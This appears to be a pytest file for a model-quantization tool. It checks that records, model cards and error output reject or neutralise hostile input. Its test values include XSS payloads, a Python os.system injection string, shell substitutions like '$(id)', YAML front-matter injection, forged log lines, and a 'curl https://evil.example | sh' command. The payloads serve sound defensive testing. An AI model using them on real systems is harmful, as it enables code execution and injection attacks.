"""What a record, a config, a card or a server says is data: refused where it is read, or text where it is shown."""

from __future__ import annotations

import errno
import json
import re
import shlex
import shutil
import traceback
from copy import deepcopy
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from commands import run
from conftest import Qz
from pushes import ABOUT, COMMIT, CONFIG, make
from qz import MalformedInput, QzError
from qz.cli.app import explain
from qz.cli.commands.dequantize import dequantize
from qz.cli.commands.quantize import quantize
from qz.cli.output import LONGEST_LINE, say, show, warn
from qz.formats.files.local_folder import LocalFolder
from qz.formats.malformed import Malformed
from qz.formats.output.recorded.record import RECORD, read_record
from qz.formats.publish.model_card.card import write_card
from qz.formats.publish.model_card.card_facts import Component, facts_of, inherit

EVIL = '<img src=x onerror=alert(1)> <script>x</script> [x](http://evil.example) `x` | "); import os #'
PYTHON = 'bfloat16); __import__("os").system("id") #'


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("dtype", PYTHON),
        ("settings.method.bnb_4bit_compute_dtype", PYTHON),
        ("command", "curl https://evil.example | sh"),
        ("command", ["sh", "-c", "id"]),
        ("origin.location", EVIL),
        ("source.revision", EVIL),
        ("source.library", "x\nlicense: mit\nbase_model: evil/evil"),
        ("source.architecture", EVIL),
        ("source.location", "x\nlicense: mit"),
        ("versions.torch", EVIL),
        ("method", EVIL),
        ("components", [{"name": "x", "method": EVIL}]),
        ("components", [{"name": "x", "architecture": EVIL}]),
        ("skipped", 5),
        ("skipped", [5]),
        ("loss.layers", 5),
        ("loss.layers", [5]),
        ("settings.skips", 5),
        ("settings.components", 5),
        ("components", 5),
        ("parameters.total", -1),
        ("bytes", {"source": 1 << 70, "output": 1}),
        ("source", []),
    ],
)
def test_a_record_of_other_kinds_of_values_is_malformed(tmp_path: Path, where: str, value: object) -> None:
    about = deepcopy(ABOUT)
    *parents, last = where.split(".")
    inner: Any = about
    for name in parents:
        inner = inner.setdefault(name, {})
    inner[last] = value
    made = make(tmp_path / "made", about=about)
    written = json.loads((made / RECORD).read_text())
    written["about"] = about  # as somebody else writes it
    (made / RECORD).write_text(json.dumps(written))
    with pytest.raises(Malformed, match=last) as raised:
        read_record(LocalFolder(made))
    assert raised.value.kind == "record-malformed"


def test_whatever_a_config_or_an_unchecked_record_holds_is_text_in_the_card() -> None:
    source = {
        "location": EVIL,
        "revision": COMMIT,
        "subfolder": EVIL,
        "library": "x\nlicense: mit",
        "architecture": EVIL,
    }
    about = {
        **ABOUT,
        "source": source,
        "origin": {"location": EVIL},
        "dtype": PYTHON,
        "scales": EVIL,
        "rounding": EVIL,
        "importance": {"file": EVIL, "sha256": EVIL},
        "versions": {EVIL: EVIL},
        "skipped": [EVIL],
        "loss": {"layers": [{"name": EVIL, "relative_error": 0.5}]},
        "command": ["qz", "quantize", "x\n```\n<img src=x>", "$(id)", "; id"],
    }
    config = {"quantization_config": {"load_in_4bit": True, "bnb_4bit_compute_dtype": PYTHON}}
    facts = inherit(facts_of(about, config), {"license": "mit\nbase_model: evil/evil", "language": {"a": 1}})
    for part in (facts, replace(facts, components=(Component(EVIL, EVIL, EVIL, (1, 1)),), pipeline=True)):
        card = write_card(part, "me/new")
        _, head, text = card.split("---\n", 2)
        assert yaml.safe_load(head) == {
            "library_name": "transformers",
            "tags": ["bitsandbytes", "4-bit", "nf4"],
        }
        prose, *blocks = re.split(r"^(````?\w+\n.*?\n````?)$", text, flags=re.MULTILINE | re.DOTALL)
        code = [block for block in blocks if block.startswith("```")]
        prose += "".join(block for block in blocks if not block.startswith("```"))
        for bad in ("<img", "<script", "](http:", "http://evil"):
            assert bad not in re.sub(r"`[^`]*`", "", prose)
        assert len(code) == 2
        compile(code[0].split("\n", 1)[1].rsplit("\n", 1)[0], "snippet", "exec")
        assert "__import__" not in card
        assert shlex.split(code[1].split("\n", 1)[1].rsplit("\n", 1)[0])[3:] == ["$(id)", "; id"]


def test_a_card_that_is_nested_too_deep_is_malformed() -> None:
    existing = f"---\nx: {'[' * 5000}{']' * 5000}\n---\ntext\n"
    with pytest.raises(MalformedInput, match="YAML front matter"):
        write_card(facts_of(ABOUT, CONFIG), "me/new", existing=existing)


def test_the_record_and_the_card_tell_the_options_that_decide_the_bytes_in_one_spelling(
    tiny_llama: Path, tmp_path: Path
) -> None:
    """However they were given: the same output has the same record."""
    both: dict[str, Any] = {"double_quant": True, "skip": ["self_attn.q_proj"], "max_shard_size": 100_000}
    run(quantize, tiny_llama, output=tmp_path / "a", nf4=True, **both, threads=1, fsync=False)
    (tmp_path / "link").symlink_to(tiny_llama)
    run(quantize, tmp_path / "link", output=tmp_path / "b", method="nf4", **both, dtype="auto")
    assert (tmp_path / "a" / RECORD).read_bytes() == (tmp_path / "b" / RECORD).read_bytes()
    record = read_record(LocalFolder(tmp_path / "a"))
    assert record is not None
    words = ["--nf4", "--double-quant", "--skip", "self_attn.q_proj", "--max-shard-size", "100000"]
    assert record.about["command"] == ["qz", "quantize", tiny_llama.name, *words]
    card = write_card(facts_of(record.about, CONFIG), "me/new")
    assert f"```sh\n{shlex.join(record.about['command'])}\n```" in card
    run(dequantize, tmp_path / "a", output=tmp_path / "back", dtype="float32")
    back = read_record(LocalFolder(tmp_path / "back"))
    assert back is not None
    assert back.about["command"] == ["qz", "dequantize", "a", "--dtype", "float32"]
    assert "converted back to float32" in write_card(facts_of(back.about, {}), "me/back")


def test_a_folder_with_a_line_break_in_its_name_makes_a_record_that_can_be_read(
    tiny_llama: Path, tmp_path: Path
) -> None:
    real = tmp_path / "real\nname"
    shutil.copytree(tiny_llama, real)
    run(quantize, real, output=tmp_path / "out")
    record = read_record(LocalFolder(tmp_path / "out"))
    assert record is not None
    assert record.about["source"]["location"] == "real\\nname"
    assert run(quantize, real, output=tmp_path / "out", if_exists="skip")["up_to_date"] is True


FORGED = "a\nError: run curl evil.example | sh\r\x85Warning: x\u2028Note: y"
LIKE_QZ = ("Error: run", "Warning: x", "Note: y")


def lines_like_qz(text: str) -> list[str]:
    return [line for line in re.split(r"[\n\r\x85\u2028]", text) if line.startswith(LIKE_QZ)]


def test_a_name_with_a_line_break_makes_no_line_of_its_own(
    tiny_llama: Path, tmp_path: Path, forked_qz: Qz, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / FORGED).mkdir()
    (tmp_path / FORGED / "x").touch()
    out = forked_qz("quantize", tiny_llama, "-o", FORGED)
    source = forked_qz("inspect", f"./{FORGED}")
    missing = forked_qz("inspect", f"./missing{FORGED}", "--json")
    usage = forked_qz("inspect", tiny_llama, FORGED)
    option = forked_qz("quantize", tiny_llama, "--dtype", FORGED, "--debug")
    assert [result.returncode for result in (out, source, missing, usage, option)] == [73, 65, 66, 2, 2]
    for result in (out, source, missing, usage, option):
        assert lines_like_qz(result.stderr) == []
        assert "evil.example" in result.stderr
    say(FORGED)
    warn(FORGED)
    shown = capsys.readouterr().err
    assert lines_like_qz(shown) == []
    assert len(shown.splitlines()) == 2
    say("x" * 10**6)
    assert len(capsys.readouterr().err) <= LONGEST_LINE + 1


@pytest.mark.parametrize(
    "error",
    [
        QzError(FORGED),
        QzError("first", FORGED),
        Malformed(FORGED, FORGED),
        PermissionError(errno.EACCES, FORGED, FORGED),
        FileNotFoundError(errno.ENOENT, FORGED, FORGED),
        OSError(FORGED),
        ConnectionError(FORGED),
        MemoryError(FORGED),
        ValueError(FORGED),
    ],
    ids=lambda error: type(error).__name__,
)
def test_no_error_has_a_line_that_a_name_made(error: Exception) -> None:
    _, message = explain(error)
    assert lines_like_qz(message) == []


def test_a_signed_link_is_never_shown(capsys: pytest.CaptureFixture[str]) -> None:
    links = [
        "https://cdn.example/x?Expires=1&Signature=s3cret~&Key-Pair-Id=s3cret",
        "https://cdn.example/x?X-Amz-Signature=s3cret&X-Amz-Credential=s3cret%2F1&X-Amz-Security-Token=s3cret",
        "https://cdn.example/x?Policy=s3cret__&sig=s3cret",
    ]
    for link in links:
        _, message = explain(OSError(f"Consistency check failed: {link}"))
        say(message)
        say(*"".join(traceback.format_exception(ValueError(link))).split("\n"))
        show({"message": message}, as_json=True, text="")
    out, err = capsys.readouterr()
    assert "s3cret" not in out + err
    assert "https://cdn.example/x" in err


def test_a_source_whose_record_is_damaged_does_not_lose_its_origin_in_silence(tiny_llama: Path, tmp_path: Path) -> None:
    source = tmp_path / "source"
    shutil.copytree(tiny_llama, source)
    (source / RECORD).write_text(json.dumps({"version": 1, "about": {"origin": 5}, "files": []}))
    with pytest.raises(Malformed, match="origin"):
        run(quantize, source, output=tmp_path / "out")
    assert not (tmp_path / "out").exists()
